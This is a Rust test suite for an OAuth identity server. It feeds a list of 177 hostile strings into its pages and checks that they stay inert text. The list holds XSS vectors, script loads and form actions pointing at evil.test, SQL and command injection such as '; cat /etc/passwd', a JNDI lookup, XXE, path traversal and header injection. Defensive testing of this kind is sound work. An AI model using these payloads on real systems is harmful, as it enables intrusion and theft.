//! Hostile text wherever text comes from outside (security catalogue, rows 54 and 78): the pages
//! gain no element, no handler and no address that runs.

use scraper::Html;

use crate::kit::fixtures::{ALICE, Bed, Person};
use crate::support::browser_like::Page;

/// Ways out of text, attributes, addresses, scripts, comments, templates and headers.
const HOSTILE: [&str; 177] = [
    // Html.
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "]]><script>x</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.test/x.js></script>",
    "</script><script>alert(1)//",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)>x</a>",
    "<svg><use href=data:image/svg+xml,x#x>",
    "<math><mi//xlink:href=\"data:x\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=x>",
    "<noscript><p title=\"</noscript><img src=x onerror=x>\">",
    "<template><script>x</script></template>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>x</script>'>",
    "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.test>",
    "<base href=//evil.test>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<meta charset=utf-7>",
    "<link rel=stylesheet href=//evil.test>",
    "<style>@import \"//evil.test\";</style>",
    "<form action=//evil.test><button>x</button>",
    "</form><form action=//evil.test>",
    "<button form=sign-in formaction=//evil.test>x</button>",
    "<input name=password type=text>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=x><p>Sign in again</dialog>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<script>x</script>]]>",
    "<?xml version=\"1.0\"?><script/>",
    "<x\u{c}onclick=alert(1)>",
    "<a href=\"//evil.test\" download>x</a>",
    "<portal src=//evil.test>",
    // Attributes.
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "x onfocus=alert(1) autofocus ",
    "`onload=alert(1)`",
    "\"/onclick=alert(1)//",
    "\" style=\"position:fixed;inset:0",
    "\" formaction=\"//evil.test",
    "\" type=\"text\" x=\"",
    "\" srcset=\"//evil.test/x 1x",
    "\"\tonclick\t=\talert(1) x=\"",
    "\" accesskey=\"x\" onclick=\"alert(1)",
    "'\"` onx=1 '\"`",
    "=x onclick=alert(1)",
    "\\\" onclick=\\\"alert(1)",
    // Addresses, scripts and styles.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript://x%0aalert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>x",
    "data:text/html;base64,PHNjcmlwdD54PC9zY3JpcHQ+",
    "//evil.test",
    "/\\evil.test",
    "\\\\evil.test\\x",
    "///evil.test/%2f..",
    "@evil.test",
    ".evil.test",
    "http:evil.test",
    "';alert(1)//",
    "\";alert(1)//",
    "\\';alert(1)//",
    "</script>`${alert(1)}`",
    "url(//evil.test)",
    "}*{background:url(//evil.test)}",
    "expression(alert(1))",
    // Templates, queries, commands and formats.
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% include 'x' %}",
    "{{ chrome.base }}",
    "{# x #}",
    "{{constructor.constructor(\"x\")()}}",
    "${jndi:ldap://evil.test/x}",
    "' or '1'='1",
    "'; drop table users; --",
    "\" or \"\"=\"",
    "1) union select phc from passwords --",
    "x' || (select 1) || '",
    "%' like '_",
    "*)(uid=*))(|(uid=*",
    "$(id)",
    "`id`",
    "; cat /etc/passwd",
    "| id",
    "%s%s%n%x",
    "=cmd|' /C calc'!A1",
    "@SUM(1+1)",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "<xi:include href=\"file:///etc/passwd\"/>",
    // JSON.
    "{\"$ne\":null}",
    "{\"__proto__\":{\"admin\":true}}",
    "\",\"admin\":true,\"x\":\"",
    "\"}],\"x\":[{\"",
    "[[[[[[[[[[",
    "{\"a\":1,\"a\":2}",
    "\\u003cscript\\u003e",
    "null\u{0}",
    "1e999999",
    // Encodings.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3c;script&#x3e;",
    "&amp;lt;script&amp;gt;",
    "&quot; onx=1 &quot;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253E",
    "%22%20onx%3D1",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%c0%bcscript%c0%be",
    "%u003Cscript%u003E",
    "\\x3cscript\\x3e",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{2ba}script\u{2b9} onx=1",
    "\u{2039}script\u{203a}",
    "\u{130}\u{131}\u{17f}\u{212a}<\u{17f}cript>",
    "<scr\u{131}pt>alert(1)</scr\u{131}pt>",
    "e\u{301}\u{327}<b\u{338}>",
    "a\u{fe64}b\u{fe65}",
    "\u{fdfa}<b>",
    // Headers, control characters and directions of text.
    "a\r\nSet-Cookie: evil=1\r\n\r\n<script>x</script>",
    "a\nEvil: 1",
    "a\rEvil: 1",
    "a%0d%0aEvil: 1",
    "\u{560d}\u{560a}Evil: 1",
    "a\u{85}Evil: 1",
    "\u{0}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "\u{1b}[2J\u{1b}[31mroot",
    "a\u{8}\u{8}\u{7f}b",
    "\u{202e}gnp.exe",
    "\u{2066}<b>\u{2069}\u{2067}",
    "\u{2028}alert(1)\u{2029}",
    "<\u{200b}script>",
    "\u{feff}<script>x</script>",
    "\u{e0041}\u{e0042}<b>",
    "\u{1f468}\u{200d}\u{1f469}<b>",
    "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}<b>",
    // Paths.
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "..;/..;/admin",
    "%2e%2e%2f%2e%2e%2fadmin",
    "..%252f..%252fadmin",
    "..%c0%af..%c0%afadmin",
    "/admin/%2e%2e/account",
    "file:///etc/passwd",
    "x\u{0}.css",
    "con.txt::$DATA",
];

/// A third of them, another one for each place: together the places get them all, and each gets some of
/// every kind.
fn third(place: usize) -> impl Iterator<Item = &'static str> {
    HOSTILE.into_iter().skip(place % 3).step_by(3)
}

/// The same text in every parameter that may be any text.
fn together(text: &str) -> [(&'static str, &str); 10] {
    [
        "state",
        "nonce",
        "login_hint",
        "ui_locales",
        "claims_locales",
        "acr_values",
        "display",
        "error",
        "error_description",
        "x",
    ]
    .map(|name| (name, text))
}

fn encoded(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// Names of apps and people, made of several of those with no character that no name may have.
fn names() -> Vec<String> {
    let plain = |text: &&str| text.bytes().all(|byte| matches!(byte, b' '..=b'~'));
    let mut names: Vec<String> = Vec::new();
    for text in HOSTILE.into_iter().filter(plain) {
        let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
        let fits = names.last().is_some_and(|name| name.len() + text.len() < 100);
        if fits && let Some(name) = names.last_mut() {
            name.push(' ');
            name.push_str(&text);
        } else {
            names.push(text);
        }
    }
    names
}

/// The elements and attributes of a page, without the values that differ every time.
fn shape(page: &Page) -> Vec<String> {
    let document = Html::parse_document(&page.body);
    let mut found = Vec::new();
    for element in document.root_element().descendent_elements() {
        let value = element.value();
        let mut names: Vec<_> = value.attrs().map(|(name, _)| name).collect();
        names.sort_unstable();
        found.push(format!("{} {}", value.name(), names.join(" ")));
        for (name, text) in value.attrs() {
            let text: String = text.chars().filter(|c| !c.is_whitespace()).collect();
            let text = text.to_lowercase();
            let runs = ["javascript:", "data:", "vbscript:"].iter().any(|s| text.starts_with(s));
            let address = ["href", "src", "action", "formaction", "data"].contains(&name);
            assert!(!(address && runs), "{name}={text} on {}", page.describe());
            assert!(!name.starts_with("on"), "{name} on {}", page.describe());
        }
    }
    found
}

#[track_caller]
fn assert_same_shape(hostile: &Page, harmless: &[String], what: &str) {
    assert!(hostile.status.as_u16() < 500, "{what}: {}", hostile.describe());
    assert_eq!(shape(hostile), harmless, "{what}: {}", hostile.body);
    assert!(hostile.headers.get("evil").is_none());
    assert!(hostile.set_cookies().iter().all(|c| c.name.starts_with("doorward_")), "{what}");
}

on_both_backends! {
    async fn hostile_parameters_stay_text(backend: Backend) {
        let bed = Bed::shared(backend).await;
        let (rp, browser) = (bed.rp("conf-basic"), bed.world.browser());
        // The pages set a cookie on the first visit only.
        browser.get("/login").await;
        let page = rp.authorize(&browser, &together("harmless")).await;
        assert!(page.has_form("sign-in"), "{}", page.describe());
        let harmless = shape(&page);
        for text in HOSTILE {
            let page = rp.authorize(&browser, &together(text)).await;
            assert_same_shape(&page, &harmless, text);
        }
        // Pages for what is too long for an address are made in another way.
        for text in ["\"><img src=x onerror=alert(1)>".repeat(150), "\u{202e}<b>".repeat(150)] {
            let as_long = "h".repeat(encoded(&text).len());
            for name in ["state", "nonce", "login_hint", "ui_locales"] {
                let harmless = shape(&rp.authorize(&browser, &[(name, as_long.as_str())]).await);
                let page = rp.authorize(&browser, &[(name, text.as_str())]).await;
                assert_same_shape(&page, &harmless, name);
            }
        }
        bed.assert_log_is_clean();
    }

    async fn hostile_scopes_and_claims_stay_text(backend: Backend) {
        let bed = Bed::shared(backend).await;
        let (rp, browser) = (bed.rp("conf-basic"), bed.world.browser());
        browser.get("/login").await;
        let page = rp.authorize(&browser, &[("scope", "openid harmless")]).await;
        assert!(page.has_form("sign-in"), "{}", page.describe());
        let asked = shape(&page);
        let page = rp.authorize(&browser, &[("scope", "harmless")]).await;
        assert_eq!(page.location_parameter("error").as_deref(), Some("invalid_scope"));
        let refused = shape(&page);
        let beside = HOSTILE.map(|text| ("scope", format!("openid {text}")));
        let alone = third(0).map(|text| ("scope", text.to_owned()));
        let claims = third(1).map(|text| ("claims", text.to_owned()));
        for (name, text) in beside.into_iter().chain(alone).chain(claims) {
            let page = rp.authorize(&browser, &[(name, text.as_str())]).await;
            // What could be a scope is passed over; what could not be one is an error.
            let to = page.try_location();
            let expected = if to.is_some() { &refused } else { &asked };
            assert_same_shape(&page, expected, &format!("{name}={text}"));
            let to = to.map_or_else(|| rp.redirect_uri.clone(), String::from);
            assert!(to.starts_with(rp.redirect_uri.as_str()), "{name}={text}: {to}");
        }
        bed.assert_log_is_clean();
    }

    async fn hostile_text_on_error_pages_stays_text(backend: Backend) {
        let bed = Bed::shared(backend).await;
        let (rp, browser) = (bed.rp("conf-basic"), bed.world.browser());
        browser.get("/login").await;
        for (first, name) in ["client_id", "redirect_uri"].into_iter().enumerate() {
            let harmless = shape(&rp.authorize(&browser, &[(name, "harmless")]).await);
            for text in HOSTILE.into_iter().skip(first).step_by(2) {
                let page = rp.authorize(&browser, &[(name, text)]).await;
                assert_same_shape(&page, &harmless, &format!("{name}={text}"));
            }
        }
        let paths = ["/", "/setup?token=", "/login/reset?token=", "/login?next=", "/consent?flow=",
            "/oauth2/logout?post_logout_redirect_uri=", "/oauth2/logout?client_id=", "/account/"];
        for (place, path) in paths.into_iter().enumerate() {
            let harmless = shape(&browser.get(&format!("{path}harmless")).await);
            for text in third(place) {
                let page = browser.get(&format!("{path}{}", encoded(text))).await;
                assert_same_shape(&page, &harmless, &format!("{path}{text}"));
            }
        }
        let signed_in = bed.signed_in(&ALICE).await;
        for (first, browser) in [&browser, &signed_in].into_iter().enumerate() {
            let harmless = shape(&browser.get("/device?user_code=harmless").await);
            // Not more of them: wrong codes are counted.
            for text in HOSTILE.into_iter().skip(first).step_by(5) {
                let page = browser.get(&format!("/device?user_code={}", encoded(text))).await;
                assert_same_shape(&page, &harmless, &format!("/device {text}"));
            }
        }
        let page = browser.get("/login").await;
        let wrong = page.form("sign-in").set("username", "harmless").set("password", "x");
        let harmless = shape(&wrong.submit().await);
        // As are wrong passwords.
        for text in HOSTILE.into_iter().take(60).step_by(5) {
            let form = browser.get("/login").await.form("sign-in");
            let page = form.set("username", text).set("password", "x").submit().await;
            assert_same_shape(&page, &harmless, &format!("username={text}"));
        }
    }

    async fn hostile_text_in_new_names_stays_text(backend: Backend) {
        let bed = Bed::own(backend, &[]).await;
        let (stranger, browser) = (bed.world.browser(), bed.signed_in(&ALICE).await);
        stranger.get("/login").await;
        let mut harmless: Option<[Vec<String>; 3]> = None;
        let hostile = names().into_iter().step_by(4);
        for (number, name) in std::iter::once("Harmless".to_owned()).chain(hostile).enumerate() {
            // Some begin as options do.
            let (id, named) = (format!("app-{number}"), format!("--name={name}"));
            bed.world.cli(&["client", "create", &named, "--type", "web", "--client-id", &id,
                "--redirect-uri", crate::kit::fixtures::REDIRECT]);
            bed.world.cli(&["user", "update", ALICE.username, &named]);
            let mut rp = crate::kit::fixtures::Rp::new(&bed.world, &id);
            rp.redirect_uri = crate::kit::fixtures::REDIRECT.into();
            let (sign_in, consent) =
                (rp.authorize(&stranger, &[]).await, rp.authorize(&browser, &[]).await);
            assert!(consent.has_form("consent") && consent.text().contains(&name), "{}", consent.body);
            let account = browser.get("/account").await;
            assert!(account.text().contains(&name), "{}", account.body);
            let pages = [shape(&sign_in), shape(&consent), shape(&account)];
            match &harmless {
                None => harmless = Some(pages),
                Some(harmless) => assert_eq!(harmless, &pages, "{name}"),
            }
        }
        bed.assert_log_is_clean();
    }

    async fn hostile_names_of_apps_and_people_stay_text(backend: Backend) {
        let bed = Bed::own(backend, &[]).await;
        let names = ["\"><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}&lt;b&gt;"];
        let mut harmless: Option<[Vec<String>; 3]> = None;
        for (number, name) in ["Harmless"].into_iter().chain(names).enumerate() {
            let id = format!("app-{number}");
            let (username, email) = (format!("person-{number}"), format!("p{number}@people.test"));
            bed.world.cli(&["client", "create", "--name", name, "--type", "web", "--client-id", &id,
                "--redirect-uri", crate::kit::fixtures::REDIRECT]);
            bed.world.cli_with_input(&["user", "create", "--username", &username, "--email", &email,
                "--name", name, "--password-file", "-"], ALICE.password);
            let person = Person {
                username: Box::leak(username.into_boxed_str()),
                email: Box::leak(email.into_boxed_str()), name: "", password: ALICE.password,
            };
            let browser = bed.world.browser();
            browser.get("/login").await;
            let mut rp = crate::kit::fixtures::Rp::new(&bed.world, &id);
            rp.redirect_uri = crate::kit::fixtures::REDIRECT.into();
            let sign_in = rp.authorize(&browser, &[]).await;
            let consent = crate::kit::fixtures::fill_in(&sign_in, &person).submit().await.follow_within().await;
            assert!(consent.has_form("consent") && consent.text().contains(name), "{}", consent.body);
            let pages = [shape(&sign_in), shape(&consent), shape(&browser.get("/account").await)];
            match &harmless {
                None => harmless = Some(pages),
                Some(harmless) => assert_eq!(harmless, &pages, "{name}"),
            }
        }
        for bad in ["Bank\u{202e}live", "a\u{7}b", "two\nlines", ""] {
            let output = bed.world.run(&["client", "create", "--name", bad, "--type", "web",
                "--redirect-uri", crate::kit::fixtures::REDIRECT]);
            assert!(!output.status.success(), "{bad:?}");
        }
        let metadata = bed.world.path("links.json");
        for field in ["client_uri", "policy_uri", "tos_uri", "initiate_login_uri"] {
            let json = format!("{{\"{field}\": \"javascript:alert(1)\"}}");
            std::fs::write(&metadata, json).unwrap();
            let output = bed.world.run(&["client", "create", "--name", "Link", "--type", "web",
                "--redirect-uri", crate::kit::fixtures::REDIRECT, "--metadata", &metadata.display().to_string()]);
            assert!(!output.status.success(), "{field}");
        }
        bed.assert_log_is_clean();
    }
}
